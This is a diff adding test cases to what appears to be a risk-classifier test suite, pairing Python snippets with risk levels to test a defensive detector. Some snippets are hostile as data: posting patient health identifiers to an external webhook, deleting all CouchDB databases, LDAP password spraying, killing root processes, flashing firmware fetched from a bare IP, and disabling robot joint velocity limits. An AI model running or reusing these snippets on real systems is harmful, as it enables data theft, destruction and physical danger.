@@ -11725,6 +11725,89 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    s.send_message(msg)\n',
             S,
         ),
+        # holdout376-379: column lists, filtered deletions, spraying, own processes, firmware, robot limits
+        (
+            'import csv, requests\n'
+            'cols = ("patient_name", "dob", "medicaid_id", "home_address")\n'
+            'with open("/srv/evv/exports/visits.csv") as fh:\n'
+            '    rows = [{k: r.get(k, "") for k in cols} for r in csv.DictReader(fh)]\n'
+            'requests.post("https://hooks.example.net/collect/7f3a", json=rows)\n',
+            C,
+        ),
+        (
+            'import os, requests\n'
+            'OKTA = "https://acme.okta.com/api/v1"\n'
+            'H = {"Authorization": "SSWS " + os.environ["OKTA_API_TOKEN"]}\n'
+            'for f in requests.get(f"{OKTA}/users/00u1/factors", headers=H).json():\n'
+            '    if f["factorType"] == "push":\n'
+            '        requests.delete(f"{OKTA}/users/00u1/factors/{f[\'id\']}", headers=H)\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            'base = "http://admin:admin@127.0.0.1:5984"\n'
+            'for db in requests.get(f"{base}/_all_dbs").json():\n'
+            '    if not db.startswith("_"):\n'
+            '        requests.delete(f"{base}/{db}")\n',
+            H,
+        ),
+        (
+            'import ldap3, concurrent.futures as cf\n'
+            'srv = ldap3.Server("ldaps://dc01.corp.example.com")\n'
+            'upns = [l.strip() for l in open("users.txt")]\n'
+            'def probe(upn):\n'
+            '    for i in range(12):\n'
+            '        ldap3.Connection(srv, upn, f"Wrong{i}!").bind()\n'
+            'with cf.ThreadPoolExecutor(64) as ex:\n'
+            '    list(ex.map(probe, upns))\n',
+            H,
+        ),
+        (
+            'import getpass, psutil\n'
+            'me = psutil.Process().username()\n'
+            'stale = [p for p in psutil.process_iter(["name", "username"]) if p.info["username"] == me and p.'
+            'info["name"] == "gzserver"]\n'
+            'for p in stale:\n'
+            '    p.terminate()\n',
+            M,
+        ),
+        (
+            'import psutil\n'
+            'for p in psutil.process_iter(["username"]):\n'
+            '    if p.info["username"] == "root":\n'
+            '        p.kill()\n',
+            H,
+        ),
+        (
+            'import subprocess, urllib.request\n'
+            'urllib.request.urlretrieve("http://203.0.113.88/fw/latest.bin", "/tmp/fw.bin")\n'
+            'subprocess.run(["dfu-util", "-a", "0", "-s", "0x08000000:leave", "-D", "/tmp/fw.bin"], check=Tru'
+            'e)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["dfu-util", "-a", "0", "-s", "0x08000000:leave", "-D", "build/firmware.bin"], ch'
+            'eck=True)\n',
+            L,
+        ),
+        (
+            'import pathlib, yaml\n'
+            'cfg = pathlib.Path("/opt/robot/config/joint_limits.yaml")\n'
+            'limits = yaml.safe_load(cfg.read_text())\n'
+            'for j in limits["joint_limits"].values():\n'
+            '    j["has_velocity_limits"] = False\n'
+            'cfg.write_text(yaml.safe_dump(limits))\n',
+            H,
+        ),
+        (
+            'import getpass, json, os\n'
+            'path = os.path.expanduser("~/.config/vendctl/credentials.json")\n'
+            'with open(path, "w") as f:\n'
+            '    json.dump({"api_key": getpass.getpass("API key: ")}, f)\n'
+            'os.chmod(path, 0o600)\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
